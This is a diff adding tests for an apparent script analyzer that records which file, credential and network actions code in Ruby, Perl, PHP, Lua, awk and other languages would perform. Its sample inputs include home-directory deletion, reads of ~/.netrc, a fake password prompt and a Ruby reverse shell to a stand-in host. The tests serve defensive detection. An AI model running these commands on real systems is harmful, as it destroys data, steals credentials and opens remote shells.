@@ -187,3 +187,107 @@ test('a shell that code starts is told apart from one that is typed', () => {
     expect.objectContaining({ program: 'sh', codeFrom: 'argument', through: ['python3'] }),
   )
 })
+
+describe('other languages are read as far as their calls are alike', () => {
+  test.each([
+    ['ruby', 'FileUtils.rm_rf(Dir.home)', ['delete /h all']],
+    ['ruby', 'puts File.read(File.expand_path("~/.netrc"))', ['read /h/.netrc']],
+    ['ruby', '["/x", "/y"].each { |f| File.delete(f) }', ['delete /x', 'delete /y']],
+    ['ruby', 'system("rm", "x")', ['delete /h/p/x']],
+    ['ruby', 'd = "x"; puts `rm #{d}`', ['delete /h/p/x']],
+    ['perl', 'open(F, "<", "/h/.netrc"); print <F>', ['read /h/.netrc']],
+    ['perl', 'open F, ">/x"', ['write /x']],
+    ['perl', 'my $d = "x"; system("rm $d")', ['delete /h/p/x']],
+    ['perl', 'unlink glob "/x/*"', ['delete /x/*']],
+    ['perl', 'print qx{rm x}', ['delete /h/p/x']],
+    ['php', '<?php echo file_get_contents(getenv("HOME")."/.netrc");', ['read /h/.netrc']],
+    ['php', '<?php $f = "unlink"; $f("/x");', ['delete /x']],
+    ['php', '<?php array_map("unlink", glob("/x/*"));', ['delete /x/*']],
+    ['lua', 'os.remove("/x")', ['delete /x']],
+    ['lua', 'print(io.open("/h/.netrc"):read("*a"))', ['read /h/.netrc']],
+    ['julia', 'rm("/x", recursive=true)', ['delete /x all']],
+    ['julia', 'run(`rm x`)', ['delete /h/p/x']],
+    ['elixir', 'System.cmd("rm", ["x"])', ['delete /h/p/x']],
+    ['osascript', 'do shell script "rm x"', ['delete /h/p/x']],
+  ])('%s %s', (program, code, expected) => {
+    expect(recorded(program, code).actions).toEqual(expected)
+    expect(recorded(program, code).unread).toEqual([])
+  })
+
+  test.each([
+    ['ruby', 'send(gets, gets)'],
+    ['ruby', 'eval(gets)'],
+    ['perl', 'use Foo; foo()'],
+    ['php', '<?php include $_GET[0];'],
+    ['lua', 'load(x)()'],
+    ['osascript', 'tell application "Finder" to delete every item of home'],
+    ['osascript', 'display dialog "Password:" default answer "" with hidden answer'],
+  ])('%s %s cannot be read', (program, code) => {
+    expect(recorded(program, code).unread).not.toEqual([])
+  })
+
+  test.each([
+    ['ruby', 'puts 1 + 1'],
+    ['ruby', 'require "json"; puts JSON.parse("{}")'],
+    ['perl', 'print "rm -rf /\\n"; $x =~ s/(\\d+)/$1/;'],
+    ['php', '<?php echo PHP_VERSION;'],
+    ['lua', 'print(1)'],
+    ['Rscript', 'print(mean(c(1, 2)))'],
+    ['julia', 'println(1)'],
+    ['osascript', 'display notification "done" with title "x"'],
+  ])('%s %s hides nothing', (program, code) => {
+    expect(recorded(program, code)).toEqual({ actions: [], unread: [] })
+  })
+})
+
+test('a shell that a socket feeds is one, whatever it is told', () => {
+  const code =
+    'c=TCPSocket.new("a.example",9);while(l=c.gets);IO.popen(l,"r"){|io|c.print io.read}end'
+  expect(recorded('ruby -rsocket', code).actions).toEqual(['connect a.example', 'connect  shell'])
+})
+
+describe('awk is read by its tokens', () => {
+  const awk = (code: string, options = '') => {
+    const recorder = newRecorder(view, follow)
+    recordScript(`awk ${options} '${code}' f`, '/h/p', recorder)
+    const files = recorder
+      .actions()
+      .flatMap((one) =>
+        'path' in one && one.path !== '/h/p/f' ? [`${one.kind.slice(5)} ${one.path}`] : [],
+      )
+    return { files, unread: recorder.opaque().map(({ code: why }) => why) }
+  }
+
+  test.each([
+    ['BEGIN { system("rm x") }', ['delete /h/p/x']],
+    ['BEGIN { c = "rm"; d = c " x"; system(d) }', ['delete /h/p/x']],
+    ['{ system("rm " $1 ".bak") }', ['delete /h/p/*.bak']],
+    ['BEGIN { "cat ~/.netrc" | getline x; print x }', ['read /h/.netrc']],
+    ['BEGIN { while ((getline l < "/h/.netrc") > 0) print l }', ['read /h/.netrc']],
+    ['{ print > "/x" }', ['write /x']],
+    ['{ print > $1 ".txt" }', ['write /h/p/*.txt']],
+    ['{ print $1 | "tee /x" }', ['write /x']],
+  ])('%s', (code, expected) => {
+    expect(awk(code)).toEqual({ files: expected, unread: [] })
+  })
+
+  test.each([
+    '{ system($0) }',
+    '{ system(cmd) }',
+    '{ print | $1 }',
+    '{ print | "sh" }',
+    '@load "x"',
+  ])('%s cannot be read', (code) => {
+    expect(awk(code).unread).not.toEqual([])
+  })
+
+  test.each([
+    '{ if ($3 > 10) print $0 }',
+    '/a|b/ { print $1 / 2, "x > y" }',
+    '$1 ~ /[/]system(/ { print }',
+    '{ print ($1 > 2 ? "a" : "b") }',
+    'NR==FNR { a[$1]; next } $1 in a # system("x")',
+  ])('%s hides nothing', (code) => {
+    expect(awk(code)).toEqual({ files: [], unread: [] })
+  })
+})
